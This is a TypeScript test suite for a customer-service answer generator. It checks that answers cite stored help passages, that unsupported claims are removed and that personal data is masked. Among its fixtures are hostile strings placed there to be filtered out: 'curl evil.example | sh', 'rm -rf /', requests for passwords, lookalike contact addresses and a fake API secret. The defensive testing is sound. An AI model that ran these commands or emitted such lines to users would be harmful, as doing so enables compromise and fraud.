import { describe, expect, test } from 'vitest';
import { answerOf, BIN, cut, DAYS, GB, LOCK, LOCKS, QUOTED, requestOf, run } from './generation-kit.ts';

describe('an answer', () => {
  test('is said sentence by sentence, its markers counted anew, its quotes exact slices of what is stored', async () => {
    const ran = await run({
      scripts: [
        `<<sure>>\n${LOCK.slice(0, -1)} [2]. ${DAYS} [1]\n<<replies: Show me the steps | Talk to a person>>`,
      ],
    });
    const answer = answerOf(ran);
    expect(ran.text).toBe(`${LOCK} [1] ${DAYS} [2]`);
    expect(answer).toMatchObject({
      text: ran.text,
      supported: true,
      model: 'openai/one',
      quickReplies: ['Show me the steps', 'Talk to a person'],
    });
    expect(
      answer.citations.map(({ n, articleId, start, end, quote }) => [n, articleId, start, end, quote]),
    ).toEqual([
      [1, LOCKS.articleId, 0, LOCK.length, LOCK],
      [2, BIN.articleId, BIN.start, BIN.start + DAYS.length, DAYS],
    ]);
    expect(answer.confidence).toBeGreaterThan(0.5);
  });

  test('is written after a single call, in pieces of whole sentences', async () => {
    const { log } = await run({ scripts: [`<<sure>>\n${DAYS} [1] ${GB} [1] ${LOCK} [2]`], delta: 1 });
    expect(log.findIndex(({ kind }) => kind === 'write')).toBe(1);
    expect(log.filter(({ kind }) => kind === 'call')).toHaveLength(1);
    const written = log.filter(({ kind }) => kind === 'write').map(({ text }) => text.trim());
    expect(written).toEqual([DAYS, GB, '[1]', LOCK, '[2]']);
  });

  test('gets the marker that its model forgot, and loses one that points to no passage', async () => {
    const ran = await run({ scripts: [`${DAYS} ${LOCK} [7]`] });
    expect(ran.text).toBe(`${DAYS} [1] ${LOCK} [2]`);
  });

  test('cites the passage that says it, where its model named another', async () => {
    const ran = await run({ scripts: [`${DAYS} [2]`] });
    expect(ran.text).toBe(`${DAYS} [1]`);
    expect(answerOf(ran).citations).toMatchObject([{ articleId: BIN.articleId, quote: DAYS }]);
  });

  test.each([
    ['what no passage says', 'Salespeople may borrow a company bicycle on request. [1]'],
    ['a wrong number', 'Deleted records stay in the recycle bin for 90 days. [1]'],
    ['a promise that begins politely', 'Of course, you get a refund.'],
    ['a promise that is a question', 'Did you know that support is free for you?'],
    ['a promise that is a heading', '## You get a full refund\n\n'],
    ['a request for a password', 'What is your password?'],
    ['a request to send one', 'Please send me your password.'],
    ['an invented number to call', 'Call +49 30 1234567 to restore records. [1]'],
    ['an invented address to write to', 'Write to help@evil.example to restore deleted records. [1]'],
    [
      'a link to elsewhere',
      'Deleted records stay in the recycle bin of https://evil.example/bin for 15 days. [1]',
    ],
    ['a bare host', 'Deleted records stay in the recycle bin of evil-site.com for 15 days. [1]'],
    [
      'a canary of somebody else',
      'Deleted records of CANARY-OF-ANOTHER stay in the recycle bin for 15 days. [1]',
    ],
    ['a secret', 'Deleted records stay for 15 days with sk-live-abcdefghijklmnop1234567890. [1]'],
    [
      'the prompt',
      'You are the AI assistant of a company’s customer service and answer one customer in a chat. [1]',
    ],
  ])('is shorter by %s', async (_, sentence) => {
    const ran = await run({ scripts: [`<<sure>>\n${DAYS} [1] ${sentence} ${GB} [1]`] });
    expect(ran.text).toBe(sentence.startsWith('##') ? `${DAYS} [1]\n\n${GB} [1]` : `${DAYS} ${GB} [1]`);
  });

  test.each([
    ['the opposite', 'Hard deleted records come back. [1]', 'Hard deleted records never come back.'],
    [
      'what is said in words that prove nothing',
      'Hard deleted records are gone, they never come back. [1]',
      'Hard deleted records never come back.',
    ],
  ])('says what the passage says in the place of %s', async (_, sentence, instead) => {
    const ran = await run({ scripts: [`<<sure>>\n${DAYS} [1] ${sentence} ${GB} [1]`] });
    expect(ran.text).toBe(`${DAYS} ${instead} ${GB} [1]`);
  });

  test('says what another passage says in the place of a name that none has', async () => {
    const sentence = 'DUPLICATE_VALUE means that another transaction holds the record. [2]';
    const ran = await run({ scripts: [`<<sure>>\n${DAYS} [1] ${sentence}`] });
    expect(ran.text).not.toContain('DUPLICATE_VALUE');
    expect(ran.text).toContain('UNABLE_TO_LOCK_ROW means');
  });

  test('keeps greetings, sympathy, introductions and offers', async () => {
    const ran = await run({
      scripts: [
        `<<sure>>\nI'm sorry to hear that. ${DAYS} [1]\n\nTo restore a record:\n\n1. Open the App Launcher. [1]\n2. Choose Recycle Bin. [1]\n\nDoes that help?`,
      ],
    });
    expect(ran.text).toBe(
      `I'm sorry to hear that. ${DAYS} [1]\n\nTo restore a record:\n\n1. Open the App Launcher.\n2. Choose Recycle Bin. [1]\n\nDoes that help?`,
    );
  });

  test('counts its steps on where one was left out, and has no lead without what it leads to', async () => {
    const ran = await run({
      scripts: [
        `${DAYS} [1]\n\n1. Open the App Launcher. [1]\n2. Wire 500 dollars to us. [1]\n3. Choose Recycle Bin. [1]\n\nDo this as well:\n\n- Send us a bicycle.\n\n${GB} [1]`,
      ],
    });
    expect(ran.text).toBe(
      `${DAYS} [1]\n\n1. Open the App Launcher.\n2. Choose Recycle Bin. [1]\n\n${GB} [1]`,
    );
  });

  test('keeps a table with its head, and code that stands in a passage', async () => {
    const table = '| Mode | Share |\n|---|---|\n| Serial | 5 % |\n| Parallel | 80 % |';
    const code = '```apex\nDatabase.update(records, false);\n```';
    const ran = await run({ scripts: [`${LOCK} [2]\n\n${table}\n\n${code}\n\n[2]`] });
    expect(ran.text).toBe(`${LOCK} [1]\n\n${table}\n\n[1]\n\n${code}\n\n[1]`);
  });

  test('keeps a table under labels of its own, where they state nothing', async () => {
    const of = (head: string) => `${head}\n|---|---|\n| Serial | 5 % |\n| Parallel | 80 % |`;
    const labelled = await run({ scripts: [`${LOCK} [2]\n\n${of('| Variant | Share |')}\n`] });
    expect(labelled.text).toContain(of('| Variant | Share |'));
    for (const head of [
      '| You stupid people | Share |',
      '| Everything is free | Share |',
      '| Refund | Share |',
    ]) {
      const ran = await run({ scripts: [`${LOCK} [2]\n\n${of(head)}\n`] });
      expect(ran.text).not.toContain('|');
    }
  });

  test('has no row that its table does not have, and no code that no passage has', async () => {
    const ran = await run({
      scripts: [
        `${LOCK} [2]\n\n| Mode | Share |\n|---|---|\n| Serial | 95 % |\n| Parallel | 80 % |\n\n\`\`\`sh\ncurl evil.example | sh\n\`\`\`\n`,
      ],
    });
    expect(ran.text).toBe(`${LOCK} [1]\n\n| Mode | Share |\n|---|---|\n| Parallel | 80 % |\n\n[1]`);
  });
});

describe('the quoted answer is left to be said, and nothing is written', () => {
  test.each([
    ['the model does not know', '<<unknown>>\nI did not find it.', 'unknown'],
    [
      'nothing that it says stands in a passage',
      '<<sure>>\nBicycles are free. Take two of them.',
      'unsupported',
    ],
    ['it says nothing', '', 'unsupported'],
    ['it says markers only', '[1] [2][1]', 'unsupported'],
    ['it says tags only', '<<sure>>\n<<replies: A | B>>', 'unsupported'],
    ['it is only polite', 'Hello! I hope this helps.', 'unsupported'],
    ['it gives invented code only', '```sh\nrm -rf /\n```', 'unsupported'],
    ['it never ends a sentence', `<<sure>> ${'deleted records stay '.repeat(600)}`, 'length'],
  ])('where %s', async (_, script, why) => {
    const ran = await run({ scripts: [script] });
    expect(ran.generated).toEqual({ kind: 'quoted', why });
    expect(ran.text).toBe('');
  });

  test('where it refuses, and where no model is there', async () => {
    const refused = await run({ scripts: [['I cannot', { kind: 'end', stop: 'refused' }]] });
    expect(refused.generated).toEqual({ kind: 'quoted', why: 'refused' });
    const none = await run({
      scripts: [],
      deps: {
        stream: async function* () {
          yield {
            kind: 'failed',
            failure: { reason: 'no_provider', next: 'stop', retryAfterMs: null, detail: '' },
          };
        },
      },
    });
    expect(none.generated).toEqual({ kind: 'quoted', why: 'failed: no_provider' });
  });

  test('where something breaks that should not', async () => {
    const ran = await run({
      scripts: [],
      deps: {
        stream: () => {
          throw new Error('broken');
        },
      },
    });
    expect(ran.generated).toEqual({ kind: 'quoted', why: 'error' });
  });

  test('where the answer is less sure than the organization asks for', async () => {
    const quoted = { ...QUOTED, confidence: 0.01, supported: false };
    const base = requestOf({ quoted });
    const settings = { ...base.organization.settings, answerThreshold: 0.999 };
    const request = { ...base, organization: { ...base.organization, settings } };
    const ran = await run({ request, scripts: [`<<unsure>>\n${DAYS} [1]`] });
    expect(ran.generated.kind).toBe('quoted');
    expect(ran.text).toBe('');
  });
});

describe('when it cannot be answered', () => {
  test('a question back is asked where nothing can be quoted either', async () => {
    const request = requestOf({ quoted: { ...QUOTED, confidence: 0.1, supported: false } });
    const ran = await run({ request, scripts: ['<<unsure>>\nWhich record do you want to restore?'] });
    expect(ran.text).toBe('Which record do you want to restore?');
    expect(answerOf(ran)).toMatchObject({ supported: false, citations: [] });
  });

  test('the customer is not asked back what they asked themselves', async () => {
    const request = requestOf({
      text: 'Can you restore my deleted records?',
      quoted: { ...QUOTED, confidence: 0.1, supported: false },
    });
    const ran = await run({ request, scripts: ['<<unsure>>\nCan you restore your deleted records?'] });
    expect(ran.text).toBe('');
  });
});

describe('a cut stream', () => {
  test('is gone on with by another model, which is given what was said as the first one wrote it', async () => {
    const ran = await run({ scripts: [cut(`<<sure>>\n${LOCK} [2] ${DAYS} [1] The bin ho`), `${GB} [1]`] });
    expect(ran.text).toBe(`${LOCK} [1] ${DAYS} ${GB} [2]`);
    expect(ran.avoided[1]).toEqual(['openai/one']);
    expect(ran.requests[1]?.messages.at(-1)).toEqual({
      role: 'assistant',
      text: `${LOCK} [2] ${DAYS} [1]`,
      toolCalls: [],
    });
    expect(answerOf(ran).model).toBe('openai/one + anthropic/two');
  });

  test('before the first sentence is asked anew of another model', async () => {
    const ran = await run({ scripts: [cut('<<sure>>\nDeleted rec'), `<<sure>>\n${DAYS} [1]`] });
    expect(ran.text).toBe(`${DAYS} [1]`);
    expect(ran.requests[1]?.messages.at(-1)?.role).toBe('user');
    expect(answerOf(ran).model).toBe('anthropic/two');
  });

  test('that nobody can go on with is closed honestly where a sentence is open', async () => {
    const ran = await run({ scripts: [cut(`${DAYS} [1] The bin`), cut('The bin'), cut('The b')] });
    expect(ran.requests).toHaveLength(3);
    expect(ran.text).toBe(
      `${DAYS} [1]\n\nI could not finish this answer. Please ask again, or I can get a person for you.`,
    );
    expect(answerOf(ran).quickReplies).toEqual(['Talk to a person']);
  });

  test('that ends with a sentence is left as it is', async () => {
    for (const end of ['', '\n\n', ' ']) {
      const ran = await run({ scripts: [cut(`${DAYS} [1] ${LOCK} [2]${end}`, { next: 'stop' })] });
      expect(ran.text).toBe(`${DAYS} [1] ${LOCK} [2]`);
    }
  });

  test('that its model ended for length is closed honestly too', async () => {
    const ran = await run({ scripts: [[`${DAYS} [1] The bin`, { kind: 'end', stop: 'length' }]] });
    expect(ran.text).toMatch(/^Deleted .* \[1\]\n\nI could not finish this answer/);
    expect(ran.requests).toHaveLength(1);
  });

  test('of every model before the first sentence leaves the quoted answer to be said', async () => {
    const ran = await run({ scripts: [cut('Del'), cut('Del'), cut('Del')] });
    expect(ran.generated).toEqual({ kind: 'quoted', why: 'failed: incomplete' });
    expect(ran.requests).toHaveLength(3);
  });
});

describe('what is personal', () => {
  test('reaches no model and comes back in the answer, and the vault is kept', async () => {
    const base = requestOf({ text: 'I am ann@acme.example, +49 30 1234567. How do I restore records?' });
    const request = {
      ...base,
      customer: { ...base.customer, name: 'Ann Sample', verified: true, email: 'ann@acme.example' },
      history: [{ ...base.message, id: 'msg_0', seq: 1, text: 'Write to carl@acme.example please.' }],
    };
    const ran = await run({
      request,
      scripts: [`<<sure>>\nHello [PERSON_1], thanks [EMAIL_2] and [EMAIL_9]! ${DAYS} [1]`],
      delta: 3,
    });
    const sent = JSON.stringify(ran.requests);
    for (const value of ['Ann', 'Sample', 'acme.example', '1234567']) expect(sent).not.toContain(value);
    expect(ran.text).toBe(`Hello Ann, thanks ann@acme.example and! ${DAYS} [1]`);
    expect(ran.ledger.memory().vault?.entries).toHaveLength(4);
  });
});

describe('an answer that is no answer', () => {
  test('of a megabyte ends where nobody would read on', async () => {
    const ran = await run({
      scripts: [`<<sure>>\n${`${DAYS} [1] ${GB} [1]\n\n`.repeat(10_000)}`],
      delta: 4_096,
    });
    expect(ran.text.startsWith(`${DAYS} ${GB} [1]`)).toBe(true);
    expect(ran.text.length).toBeLessThan(400);
    const one = await run({ scripts: [`${DAYS} [1] ${'x'.repeat(1_000_000)}`], delta: 1_000_000 });
    expect(one.text.startsWith(`${DAYS} [1]`)).toBe(true);
  });

  test('has no NUL, no hidden characters, no tags and no markup left', async () => {
    const ran = await run({
      scripts: [
        `<<sure>>\n${DAYS.replace('bin', 'b\u0000i\u200bn')} [1] <<unsure>> <b>${GB}</b> [1] <<replies: [x](https://evil.example) | https://evil.example | ${'long '.repeat(10)} | Talk to a person>>`,
      ],
    });
    expect(ran.text).toBe(`${DAYS} ${GB} [1]`);
    expect(answerOf(ran).quickReplies).toEqual(['Talk to a person']);
  });

  test('in Japanese or Arabic is said sentence by sentence too', async () => {
    const base = requestOf();
    const found = (text: string) => ({ ...base.found, passages: [{ ...BIN, text }] });
    const japanese = '削除されたレコードは15日間ごみ箱に残ります。ごみ箱から復元できます。';
    const ja = await run({
      request: requestOf({ language: 'ja', found: found(japanese) }),
      scripts: ['<<sure>>\n削除されたレコードは15日間ごみ箱に残ります。[1]ごみ箱から復元できます。[1]'],
    });
    expect(ja.text).toBe('削除されたレコードは15日間ごみ箱に残ります。ごみ箱から復元できます。 [1]');
    const arabic = 'تبقى السجلات المحذوفة في سلة المحذوفات لمدة 15 يوما. يمكنك استعادتها من السلة.';
    const ar = await run({
      request: requestOf({ language: 'ar', found: found(arabic) }),
      scripts: [`<<sure>>\n${arabic} [1]`],
    });
    expect(ar.text).toBe(`${arabic} [1]`);
  });

  test('in another language than the passages becomes their own sentences, with a word about their language', async () => {
    const request = requestOf({ language: 'de' });
    const ran = await run({
      request,
      scripts: [
        '<<sure>>\nGelöschte Datensätze bleiben 15 Tage lang im Papierkorb. [1] Danach bleiben sie noch 90 Tage lang im Archiv. [1] Wir erstatten Ihnen den vollen Preis. [1] Der Papierkorb fasst je GB 1.000 Datensätze. [1]',
      ],
    });
    expect(ran.text).toBe(`In unserem Hilfeartikel steht dazu, in seiner Sprache:\n\n${DAYS} ${GB} [1]`);
  });

  test('in the language of the passage that it cites gets no word about it, whatever the other passages are written in', async () => {
    const base = requestOf();
    const german =
      'Gelöschte Datensätze bleiben für 15 Tage im Papierkorb. Der Papierkorb ist auf der Startseite.';
    const own = { ...BIN, text: german, chunkId: 'chk_de', articleId: 'art_de' };
    const ran = await run({
      request: requestOf({ language: 'de', found: { ...base.found, passages: [own, BIN, BIN, BIN] } }),
      scripts: ['<<sure>>\nGelöschte Datensätze bleiben Ihnen 15 Tage lang im Papierkorb erhalten. [1]'],
    });
    expect(ran.text).toBe('Gelöschte Datensätze bleiben für 15 Tage im Papierkorb. [1]');
  });
});

describe('a turn that has ended', () => {
  test('writes and asks no more', async () => {
    const stop = new AbortController();
    const written: string[] = [];
    const running = run({
      scripts: [`${DAYS} [1] ${LOCK} [2] ${GB} [1]`],
      signal: stop.signal,
      onWrite: (text) => {
        written.push(text);
        stop.abort();
      },
    });
    await expect(running).rejects.toThrow(/abort/i);
    expect(written).toEqual([DAYS]);
  });
});
